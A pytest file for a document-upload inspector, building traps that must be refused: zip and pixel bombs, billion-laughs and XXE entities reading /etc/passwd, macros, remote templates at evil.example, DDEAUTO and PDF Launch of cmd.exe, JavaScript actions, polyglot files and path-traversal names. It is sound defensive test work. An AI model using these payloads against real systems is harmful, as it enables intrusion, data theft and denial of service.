"""Bombs, disguises, passwords and programs in documents: each is refused in words of its own."""

import contextlib
import io
import os
import struct
import time
import zipfile
import zlib

import pypdfium2
import pytest
from docx import Document
from PIL import Image

from tests.core.test_pdf_facts import pdf_with_words
from webinar.core.filetypes import IMAGE_KINDS, PAPER_KINDS, Refused, inspect_upload
from webinar.core.images import ImageRefused, open_image
from webinar.core.pdf import pdf_facts
from webinar.core.sandbox import ConversionFailed

pytestmark = pytest.mark.checklist(39, 40)
MB = 1024 * 1024
ODT = "application/vnd.oasis.opendocument.text"


@pytest.fixture
def judge(tmp_path):
    def judged(data, name, allowed=PAPER_KINDS):
        path = tmp_path / "upload.part"
        path.write_bytes(data)
        return inspect_upload(path, name, allowed, 50 * MB)

    return judged


def docx(**more):
    """A sound document with members added or replaced; `__` stands for a slash."""
    whole, out = io.BytesIO(), io.BytesIO()
    Document().save(whole)
    added = {name.replace("__", "/"): data for name, data in more.items()}
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, data in added.items():
            new.writestr(name, data)
    return out.getvalue()


def odt(**more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODT)
        for name, data in ({"content.xml": "<a/>"} | more).items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def pdf(body=b"", trailer=b""):
    return (
        b"%PDF-1.5\n1 0 obj\n<</Type/Catalog" + body + b">>\nendobj\ntrailer<</Root 1 0 R"
        b"" + trailer + b">>\n%%EOF\n"
    )


def in_object_stream(words, name=b"ObjStm", more=b""):
    packed = zlib.compress(b"2 0 " + words)
    return (
        b"%PDF-1.5\n3 0 obj\n<</Type/"
        + name
        + b"/N 1/First 4/Filter/FlateDecode"
        + more
        + b"/Length "
        + str(len(packed)).encode()
        + b">>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def nested_bomb():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(5 * MB))
    return docx(word__media__image1_png=inner.getvalue())


def lying_size():
    """The table of contents says that the text has ten bytes."""
    data = bytearray(docx(word__document_xml=b"", **{"word/document.xml": bytes(20 * MB)}))
    at = data.rindex(b"word/document.xml") - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def zip64_bomb():
    """Sizes of terabytes, as only zip64 can say them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b"x")
        archive.infolist()[1].file_size = 2**41
    return out.getvalue()


def overlapping():
    """Many names for the same packed bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/a.xml", bytes(7 * MB))
        one = archive.infolist()[1]
        for number in range(200):
            again = zipfile.ZipInfo(f"word/a{number}.xml")
            for slot in zipfile.ZipInfo.__slots__:
                if hasattr(one, slot):
                    setattr(again, slot, getattr(one, slot))
            again.filename = f"word/a{number}.xml"
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True
    return out.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EVIL = "https://evil.example/t.dotm"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
FAR = '<a xmlns:draw="d" xmlns:x="x"><draw:image x:href="https://evil.example/a.png"/></a>'
DDE = "<w:document xmlns:w='w'><w:instrText> DDEAUTO cmd.exe</w:instrText></w:document>"
LAUGHS = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def rel(part, kind, target="https://evil.example/a.png"):
    return docx(**{part: TEMPLATE.replace("attachedTemplate", kind).replace(EVIL, target)})


def huge(kind, width=30_000, height=30_000):
    """The header of a picture, and nothing after it that would take long to make."""
    if kind == "WEBP":
        sides = (16_383).to_bytes(3, "little") * 2
        return b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + sides
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, kind)
    data, size = out.getvalue(), struct.pack(">HH", height, width)
    if kind == "PNG":
        header = b"IHDR" + struct.pack(">II", width, height) + data[24:29]
        return data[:12] + header + struct.pack(">I", zlib.crc32(header)) + data[33:]
    if kind == "JPEG":
        return data.replace(b"\x08\0\x08\0\x08", b"\x08" + size)
    side = struct.Struct("<HHIHH")
    for tag in (256, 257):
        data = data.replace(side.pack(tag, 3, 1, 8, 0), side.pack(tag, 3, 1, width, 0))
        data = data.replace(side.pack(tag, 4, 1, 8, 0), side.pack(tag, 4, 1, width, 0))
    return data


@pytest.mark.parametrize(
    ("make", "name", "part"),
    [
        (nested_bomb, "a.docx", "another program inside"),
        (lying_size, "a.docx", "damaged"),
        (zip64_bomb, "a.docx", "unpacks to far more"),
        (overlapping, "a.docx", "unpacks to far more"),
        (lambda: docx(**{"word/document.xml": LAUGHS}), "a.docx", "entities"),
        (lambda: docx(**{"word/document.xml": XXE.encode("utf-16")}), "a.docx", "entities"),
        (lambda: docx(**{"docProps/core.xml": XXE}), "a.docx", "entities"),
        (lambda: odt(**{"content.xml": LAUGHS}), "a.odt", "entities"),
        (lambda: odt(**{"Object 1/content.xml": LAUGHS}), "a.odt", "entities"),
        (lambda: docx(**{"word/vbaProject.bin": "x"}), "a.docx", "macros"),
        (lambda: docx(**{"word/Other/VBAPROJECT.BIN": "x"}), "a.docx", "macros"),
        (lambda: odt(**{"Basic/Standard/Module1.xml": "<a/>"}), "a.odt", "macros"),
        (lambda: odt(**{"Scripts/python/a.py": "x"}), "a.odt", "macros"),
        (
            lambda: odt(**{"content.xml": '<a xmlns:script="s"><script:event-listener/></a>'}),
            "a.odt",
            "macros",
        ),
        (docx, "a.pptm", "macros"),
        (docx, "a.dotm", "macros"),
        (lambda: docx(**{"word/embeddings/oleObject1.bin": OLE}), "a.docx", "another program"),
        (lambda: docx(**{"word/media/image1.png": b"MZ\x90"}), "a.docx", "another program"),
        (lambda: docx(**{"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "another program"),
        (lambda: docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "a.docx", "template"),
        (lambda: rel("word/_rels/document.xml.rels", "image"), "a.docx", r"\(evil.example\)"),
        (lambda: rel("word/_rels/a.xml.rels", "image", r"\\10.0.0.1\a"), "a.docx", r"\(10.0.0.1\)"),
        (lambda: rel("word/_rels/a.xml.rels", "aFChunk", "a.html"), "a.docx", "another program"),
        (lambda: odt(**{"content.xml": FAR}), "a.odt", r"\(evil.example\)"),
        (lambda: docx(**{"word/document.xml": DDE}), "a.docx", "starts another program"),
        (
            lambda: docx(**{"word/media/a.svg": "<svg onload='x'/>"}),
            "a.docx",
            "a.svg. holds a prog",
        ),
        (lambda: docx(**{"word/page": "<!DOCTYPE html><p>"}), "a.docx", "another program"),
        (lambda: docx(**{"word/late.xml": " " * 9000 + LAUGHS}), "a.docx", "entities"),
        (lambda: docx(**{"word/late": "<?xml version='1.0'?>" + LAUGHS}), "a.docx", "entities"),
        (
            lambda: docx(**{"word/embeddings/a.xlsx": docx(**{"x/vbaProject.bin": ""})}),
            "a.docx",
            "macros",
        ),
        (
            lambda: docx(**{"word/embeddings/a.xlsx": docx(**{"x.bin": bytes(10 * MB)})}),
            "a.docx",
            "unpacks to far more",
        ),
        (lambda: docx() + b"%PDF-1.4", "a.docx", "disguise"),
        (
            lambda: docx(**{"word/media/image1.png": huge("PNG")}),
            "a.docx",
            r"image1.png\) has 900 mi",
        ),
        (lambda: odt(**{"Pictures/1.jpg": huge("JPEG")}), "a.odt", r"1.jpg\) has 900 million"),
        (lambda: odt(**{"Pictures/1.tif": huge("TIFF")}), "a.odt", r"1.tif\) has 900 million"),
        (
            lambda: docx(**{"word/media/a.webp": huge("WEBP")}),
            "a.docx",
            r"a.webp\) has 268 million",
        ),
        (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
        (lambda: OLE + bytes(3000), "a.docx", "inside is something else"),
        (
            lambda: odt(**{"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}),
            "a.odt",
            "password",
        ),
        (lambda: pdf(trailer=b"/Encrypt 5 0 R"), "a.pdf", "password"),
        (lambda: pdf(trailer=b"/Encrypt<</Filter/Standard>>"), "a.pdf", "password"),
        (lambda: pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"), "a.pdf", "a program"),
        (lambda: pdf(b"/OpenAction<</S/J#61vaScript/JS(x)>>"), "a.pdf", "a program"),
        (lambda: pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "a.pdf", "a program"),
        (lambda: in_object_stream(b"<</S/JavaScript/JS(x)>>"), "a.pdf", "a program"),
        (lambda: pdf(b"/Names<</EmbeddedFiles 3 0 R>>"), "a.pdf", "attached"),
        (lambda: in_object_stream(b"<</Type/EmbeddedFile>>"), "a.pdf", "attached"),
        (lambda: in_object_stream(b" " * 9 * MB + b"<</S/Launch>>"), "a.pdf", "a program"),
        (lambda: in_object_stream(b"<</S/GoToE>>", b"ObjSt#6d"), "a.pdf", "a program"),
        (lambda: in_object_stream(b"", more=b"/Predictor 12"), "a.pdf", "nobody can look into"),
        (lambda: in_object_stream(b"").replace(b"Flate", b"LZW"), "a.pdf", "nobody can look into"),
        (lambda: in_object_stream(b" " * 8 * MB) * 15, "a.pdf", "unpacks to far more"),
        (lambda: pdf(b"% >>stream\n/OpenAction<</S/JavaScript/JS(x)>>"), "a.pdf", "a program"),
        (lambda: pdf(trailer=b"/Encrypt% 5\n5 0 R"), "a.pdf", "password"),
        (lambda: pdf_with_words("a" * 9000)[:5000], "a.pdf", "breaks off"),
        (lambda: pdf() + b"2 0 obj\n<<", "a.pdf", "breaks off"),
        (lambda: pdf() + docx() + bytes(70_000), "a.pdf", "disguise"),
        (lambda: b"%PDF-1.4<img src=x onerror=y>\n" + pdf(), "a.pdf", "disguise"),
        (lambda: pdf() + docx(), "a.pdf", "disguise"),
        (lambda: pdf() + b"<html><script>x</script>", "a.pdf", "disguise"),
        (lambda: b"%PDF-1.4\n<svg onload=x>\n1 0 obj\n%%EOF", "a.pdf", "disguise"),
        (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "not taken"),
        (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.md", "web page"),
        (lambda: b"<svg/>", "a.pdf", "inside is something else"),
        (lambda: b"", "a.pdf", "empty"),
        (lambda: b"", "a.docx", "empty"),
        (pdf, "a.pdf.exe", "not taken"),
        (pdf, "a.php.pdf", "two endings"),
        (pdf, "a\u202efdp.pdf", "turns letters round"),
        (pdf, "a\0.pdf", "cannot have"),
        (pdf, "../../a.pdf", "names a folder"),
    ],
)
def test_a_trap_is_refused_in_its_own_words(judge, make, name, part):
    with pytest.raises(Refused, match=part):
        judge(make(), name)


def test_a_document_that_is_two_things_is_refused(judge):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a%PDF-1.4", b"x")
        archive.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(Refused, match="disguise"):
        judge(out.getvalue(), "a.docx")
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<html><body onload=x>"
    with pytest.raises(Refused, match="disguise"):
        judge(out.getvalue(), "a.docx")


@pytest.mark.parametrize("place", [0.2, 0.4, 0.6, 0.8])
def test_what_breaks_off_inside_a_part_is_damage(judge, place):
    """A sheet whose packed bytes are broken behind its beginning: zlib has errors of its own."""
    sheet = io.BytesIO()
    with zipfile.ZipFile(sheet, "w") as inner:
        inner.writestr("xl/a.xml", "".join(f"<a>{n**3:x}</a>" for n in range(6_000)))
    data = bytearray(docx(**{"word/embeddings/a.xlsx": sheet.getvalue()}))
    start = data.index(b"word/embeddings/a.xlsx")
    broken = start + int((data.rindex(b"PK\x01\x02") - start) * place)
    data[broken : broken + 40] = b"\xff" * 40
    with pytest.raises(Refused, match="damaged"):
        judge(bytes(data), "a.docx")


def test_a_gifar_is_no_picture(judge):
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "GIF")
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as archive:
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    with pytest.raises(Refused, match="second file in disguise"):
        judge(out.getvalue() + jar.getvalue(), "a.gif", IMAGE_KINDS)
    with pytest.raises(ImageRefused, match="second file in disguise"):
        open_image(out.getvalue() + jar.getvalue())


def test_what_only_looks_alike_passes(judge):
    words = b"4 0 obj\n<</Length 60>>\nstream\n/JS (in words) /Encrypt 1 0 R\nendstream\nendobj\n"
    assert judge(pdf() + words + b"%%EOF\n", "a.pdf").kind == "pdf"
    assert judge(pdf(b"/JSomething 1/Encrypted 2"), "a.pdf").kind == "pdf"
    assert judge(pdf_with_words("On JavaScript"), "a.pdf").kind == "pdf"
    chart = docx()
    assert judge(docx(**{"word/embeddings/Sheet1.xlsx": chart}), "a.docx").kind == "docx"
    link = rel("word/_rels/document.xml.rels", "hyperlink")
    assert judge(link, "a.docx").kind == "docx"
    own = rel("word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:\\Normal.dotm")
    assert judge(own, "a.docx").kind == "docx"
    formula = '<!DOCTYPE math:math PUBLIC "-//OO//DTD" "math.dtd"><math:math xmlns:math="m"/>'
    assert judge(odt(**{"Object 1/content.xml": formula}), "a.odt").kind == "odt"


def test_a_large_file_of_noise_is_looked_through_quickly(judge):
    noise = os.urandom(20 * MB)
    for data in (
        pdf() + b"5 0 obj\n<<>>\nstream\n" + noise + b"\nendstream\nendobj\n%%EOF",
        pdf() + b"stream\n" * 200_000 + b"%%EOF",
        pdf() + b"(" * (10 * MB) + b"%%EOF",
        pdf() + b"/Encrypt" + b" " * (5 * MB) + b"%%EOF",
    ):
        began = time.monotonic()
        assert judge(data, "a.pdf").kind == "pdf"
        assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    ("data", "name", "part"),
    [
        (huge("PNG"), "a.png", "900 million pixels"),
        (huge("JPEG"), "a.jpg", "900 million pixels"),
        (huge("WEBP"), "a.webp", "268 million pixels"),
        (b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)//", "a.gif", "disguise"),
        (huge("JPEG", 8, 8) + b"<script>alert(1)</script>", "a.jpg", "disguise"),
        (huge("JPEG", 8, 8) + docx() + bytes(70_000), "a.jpg", "disguise"),
        (huge("PNG", 8, 8) + pdf(), "a.png", "disguise"),
    ],
)
def test_a_picture_that_is_a_trap_is_refused(judge, data, name, part):
    with pytest.raises(Refused, match=part):
        judge(data, name, IMAGE_KINDS)
    if "pixels" in part:
        with pytest.raises(ImageRefused, match=part):
            open_image(data)


@pytest.mark.checklist(43)
def test_a_page_of_thirty_thousand_pixels_gets_a_small_picture(tmp_path):
    document = pypdfium2.PdfDocument.new()
    document.new_page(30_000, 30_000)
    document.save(tmp_path / "wide.pdf")
    with Image.open(io.BytesIO(pdf_facts(tmp_path / "wide.pdf").cover_webp)) as cover:
        assert max(cover.size) <= 1600


@pytest.mark.checklist(43)
def test_a_picture_of_thirty_thousand_pixels_in_a_pdf_harms_nobody(tmp_path):
    packed = zlib.compress(bytes(30_000 * 30_000 // 8), 9)
    head = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Contents 5 0 R"
        b"/Resources<</XObject<</I 4 0 R>>>>>>\nendobj\n"
        b"4 0 obj\n<</Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode/Length "
    )
    draw = b"600 0 0 600 0 0 cm /I Do"
    (tmp_path / "a.pdf").write_bytes(
        head
        + str(len(packed)).encode()
        + b">>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n5 0 obj\n<</Length 24>>\nstream\n"
        + draw
        + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    with contextlib.suppress(ConversionFailed):
        # Where a machine has room for it, it is drawn small.
        assert len(pdf_facts(tmp_path / "a.pdf", seconds=20).cover_webp) < MB
